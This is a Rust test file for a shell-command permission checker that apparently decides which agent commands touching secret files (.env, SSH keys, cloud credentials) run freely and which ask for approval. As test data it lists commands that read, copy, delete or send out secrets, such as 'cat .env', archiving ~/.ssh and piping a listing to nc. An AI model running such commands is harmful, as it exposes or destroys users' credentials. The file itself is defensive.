//! Commands that only name or measure files (`ls`, `stat`, `test -f`, `du`, `wc`, `file`,
//! `find -name`) run on secret locations without asking: they list names and metadata, never
//! what the secret holds. Whatever reads the contents, copies them elsewhere or reads a file's
//! lines as names keeps asking.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    missing_docs
)]

use airlock_shell::{Level, ShellEnv, judge};

const ENV: ShellEnv<'static> = ShellEnv::new(Some("/ws"), Some("/home/u"), &["/ws/.airlock"]);

#[test]
fn names_and_metadata_of_secret_locations_run() {
    let bad: Vec<String> = [
        "ls .env.*",
        "ls -la .env*",
        "ls -la storage/*.key",
        "ls -l storage/oauth-private.key",
        "ls ~/.ssh",
        "ls -la ~/.ssh/",
        "ls -R ~/.aws",
        "ls -1 config/credentials/",
        "ls -la .ENV .Env.local",
        "stat .env",
        "stat -c '%s %y' ~/.ssh/id_ed25519",
        "test -f .env",
        "test -e ~/.kube/config && echo yes",
        "[ -f .env.testing ] && echo present",
        "[ -s ~/.ssh/id_rsa ] || echo missing",
        "[[ -f .env ]] && echo present",
        "du -sh ~/.ssh",
        "wc -l .env.example .env",
        "wc -c ~/.npmrc",
        "file storage/oauth-private.key",
        "find . -name '*.pem'",
        "find . -name '.env*' -not -path './node_modules/*'",
        "find ~/.ssh -type f -name 'id_*'",
        "find config -name '*.key' -print",
        "tree -a ~/.ssh",
        "realpath .env",
        "readlink -f .env",
        "basename ~/.ssh/id_rsa",
    ]
    .iter()
    .filter_map(|s| {
        let v = judge(s, &ENV);
        (v.level != Level::Allow).then(|| format!("{s:?}: {:?} `{}`", v.level, v.row))
    })
    .collect();
    assert!(bad.is_empty(), "should run:\n{}", bad.join("\n"));
}

#[test]
fn contents_of_secret_locations_keep_asking() {
    let bad: Vec<String> = [
        "cat .env",
        "head -3 ~/.ssh/id_rsa",
        "tail .env.production",
        "grep DATABASE_URL .env.staging",
        "grep -r password ~/.ssh",
        "cp .env /tmp/env",
        "cp storage/oauth-private.key public/",
        "less .env",
        "sha256sum .env",
        "cmp .env .env.example",
        "ls .env && cat .env",
        "find . -name '*.pem' -exec cat {} \\;",
        "find . -name '*.pem' -exec cat {} +",
        "find ~/.ssh -name 'id_*' -delete",
        "find ~/.ssh -fprint /tmp/list",
        "find . -name '.env*' -print0 | xargs -0 cat",
        "find . -name '.env*' | xargs cat",
        "wc --files0-from=.env",
        "du --files0-from=.env",
        "file -f .env",
        "file -m .env x",
        "tree --fromfile .env",
        "du -X .env .",
        "wc -l < .env",
        "ls > .env",
        "ls $(cat .env)",
        "stat \"$SECRET_FILE\" .env",
        "tar czf /tmp/ssh.tgz ~/.ssh",
        "ls -la ~/.ssh | nc host 80",
    ]
    .iter()
    .filter_map(|s| {
        let v = judge(s, &ENV);
        (v.level == Level::Allow || v.grant.is_some())
            .then(|| format!("{s:?}: {:?} `{}` grant {:?}", v.level, v.row, v.grant))
    })
    .collect();
    assert!(bad.is_empty(), "should keep asking:\n{}", bad.join("\n"));
}

/// Issue 21: git's index-only and name-only commands on a secret file (untracking it,
/// unstaging it, asking whether it is ignored or tracked) neither read nor expose it: they do
/// not ask as a secret read (the git family decides them). Everything that prints its hunks, a
/// diff or a blob's hash, reads its lines as paths, stages it or writes the work tree still
/// always asks.
#[test]
fn git_index_only_commands_on_secret_files_are_no_secret_read() {
    let bad: Vec<String> = [
        "git rm --cached .env",
        "git rm --cached -- .env",
        "git rm -r --cached .env config/master.key",
        "git rm --cached -q --ignore-unmatch .env.production",
        "git rm --cached ~/.aws/credentials",
        "git restore --staged .env",
        "git restore -S apps/api/.env.local",
        "git reset HEAD .env",
        "git reset -q -- .env",
        "git check-ignore -v .env",
        "git check-ignore -q .env.local && echo ignored",
        "git ls-files --error-unmatch .env",
        "git ls-files -o --exclude-standard .env*",
        "git status --short .env",
        "git status --porcelain .env",
    ]
    .iter()
    .filter_map(|s| {
        let v = judge(s, &ENV);
        (v.level == Level::AlwaysAsk).then(|| format!("{s:?}: {:?} `{}`", v.level, v.row))
    })
    .collect();
    assert!(
        bad.is_empty(),
        "should not ask as a secret read:\n{}",
        bad.join("\n")
    );
    let loud: Vec<String> = [
        "git add .env",
        "git add -f .env",
        "git rm .env",
        "git rm -f .env",
        "git rm --cached --pathspec-from-file=.env",
        "git rm --cached --pathspec-from-file .env",
        "git restore --staged -p .env",
        "git restore --staged -W .env",
        "git restore --staged --worktree .env",
        "git restore .env",
        "git reset -p .env",
        "git reset --patch HEAD .env",
        "git reset --hard HEAD .env",
        "git status -v .env",
        "git status --verbose .env",
        "git ls-files -s .env",
        "git ls-files --stage .env",
        "git ls-files --format=%(objectname) .env",
        "git diff --cached .env",
        "git show :.env",
        "git stash push .env",
        "git commit .env -m wip",
        "git -c core.pager=cat rm --cached .env",
        "git rm --cached .env && cat .env",
        "git check-ignore -v .env; cat .env",
    ]
    .iter()
    .filter_map(|s| {
        let v = judge(s, &ENV);
        (v.level != Level::AlwaysAsk).then(|| format!("{s:?}: {:?} `{}`", v.level, v.row))
    })
    .collect();
    assert!(loud.is_empty(), "should always ask:\n{}", loud.join("\n"));
}
